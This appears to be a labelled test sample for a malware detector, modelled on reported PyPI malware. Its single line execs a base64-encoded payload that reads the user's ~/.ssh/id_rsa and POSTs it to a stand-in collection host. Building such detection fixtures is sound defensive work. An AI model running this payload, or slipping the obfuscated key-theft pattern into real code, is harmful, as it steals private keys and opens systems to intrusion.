# expect: dynamic-eval,data-out,secret-read
# source: PyPI malware reports (Phylum, Checkmarx)
# technique: base64-hidden code reads an ssh key and POSTs it
import base64

exec(base64.b64decode("aW1wb3J0IG9zLCByZXF1ZXN0cwprID0gb3Blbihvcy5wYXRoLmV4cGFuZHVzZXIoJ34vLnNzaC9pZF9yc2EnKSkucmVhZCgpCnJlcXVlc3RzLnBvc3QoJ2h0dHBzOi8vY29sbGVjdC5leGFtcGxlLm5ldC9rJywgZGF0YT1rKQo="))
